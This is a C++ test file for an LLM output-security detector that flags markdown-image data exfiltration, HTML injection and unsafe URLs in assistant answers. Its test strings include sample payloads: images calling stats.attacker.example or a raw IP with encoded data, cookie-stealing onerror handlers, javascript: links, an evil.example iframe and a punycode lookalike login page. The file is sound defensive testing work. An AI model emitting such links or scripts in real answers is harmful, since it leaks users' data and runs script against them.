#include <catch2/catch.hpp>

#include "core/detectors/link_detector.h"
#include "core/text/text_view.h"

using namespace llmsec;

namespace {

std::vector<Finding> scan(const std::string& text, std::vector<std::string> allowed = {}) {
  auto detector = LinkDetector::create({.allowed_domains = std::move(allowed)});
  REQUIRE(detector);
  const Segment segment{.role = Role::kAssistant, .text = text};
  const std::vector<TextView> views{TextView::identity("original", text)};
  std::vector<Finding> out;
  (*detector)->scan({segment, 0, views, Direction::kOutput}, out);
  return out;
}

// The strongest finding of `category`, or a score of 0.
double score_of(const std::vector<Finding>& findings, const std::string& category) {
  double best = 0.0;
  for (const Finding& f : findings)
    if (f.category == category) best = std::max(best, f.score);
  return best;
}

}  // namespace

TEST_CASE("An image whose URL carries data to a foreign host is exfiltration", "[links]") {
  for (const std::string answer : {
           "Done! "
           "![status](https://stats.attacker.example/p.png?d=c2stcHJvai1YcTN2TjhiTDJtSzdyVDF3)",
           "<img "
           "src=\"https://x.example.net/log?session=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b\">",
           "![](http://203.0.113.9/collect/aGVsbG8gd29ybGQgdGhpcyBpcyB0aGUgdXNlcidzIGRhdGE=)",
       }) {
    INFO(answer);
    const auto findings = scan(answer);
    CHECK(score_of(findings, "exfiltration") >= 0.9);
  }
  const auto ip =
      scan("![](http://203.0.113.9/collect/aGVsbG8gd29ybGQgdGhpcyBpcyB0aGUgdXNlcidzIGRhdGE=)");
  CHECK(score_of(ip, "unsafe_url") > 0.5);
}

TEST_CASE("Images and links that carry no data, or go to allowed hosts, are not exfiltration",
          "[links]") {
  CHECK(
      score_of(
          scan("See ![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)."),
          "exfiltration") < 0.5);
  CHECK(scan("Read [the docs](https://docs.python.org/3/library/re.html?highlight=match) and "
             "https://en.wikipedia.org/wiki/Rhine for more.")
            .empty());
  CHECK(scan("![chart](https://cdn.mycompany.com/c.png?d=c2stcHJvai1YcTN2TjhiTDJtSzdyVDF3)",
             {"mycompany.com"})
            .empty());
  // Shown as code, never rendered.
  CHECK(scan("```html\n<img src=\"https://x.example/?q=c2stcHJvai1YcTN2TjhiTDJtSzdyVDF3\" "
             "onerror=\"alert(1)\">\n```")
            .empty());
}

TEST_CASE("Script, event handlers and javascript: URLs are HTML injection", "[links]") {
  for (const std::string answer :
       {"<script>fetch('/api/me')</script>", "<img src=x onerror=\"alert(document.cookie)\">",
        "[click here](javascript:alert(1))", "<iframe src=\"https://evil.example\"></iframe>"}) {
    INFO(answer);
    CHECK(score_of(scan(answer), "html_injection") >= 0.7);
  }
  CHECK(score_of(scan("In JavaScript: use `fetch()` to call the API."), "html_injection") == 0.0);
}

TEST_CASE("IP-literal and punycode hosts are unsafe URLs", "[links]") {
  CHECK(score_of(scan("Log in at https://xn--pypal-4ve.com/login now."), "unsafe_url") >= 0.6);
  CHECK(score_of(scan("Download from http://2130706433/setup.exe"), "unsafe_url") >= 0.6);
  CHECK(score_of(scan("Open http://[2001:db8::1]:8080/admin"), "unsafe_url") >= 0.6);
  CHECK(score_of(scan("Visit https://www.example.org/about"), "unsafe_url") == 0.0);
}

TEST_CASE("URLs are parsed into host, path and query", "[links]") {
  const UrlParts u = parse_url("https://user:pw@Sub.Example.COM:8443/a/b?x=1&y=2#frag");
  CHECK(u.scheme == "https");
  CHECK(u.host == "sub.example.com");
  CHECK(u.path == "/a/b");
  CHECK(u.query == "x=1&y=2");
  CHECK_FALSE(u.ip_literal);
  CHECK_FALSE(carries_data(u));
  CHECK(parse_url("http://10.0.0.1/x").ip_literal);
}

TEST_CASE("Links with ids and hashes in their paths are honest", "[links]") {
  CHECK(scan("Fixed in https://github.com/org/repo/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b "
             "and [the PR](https://github.com/org/repo/pull/4242).")
            .empty());
}
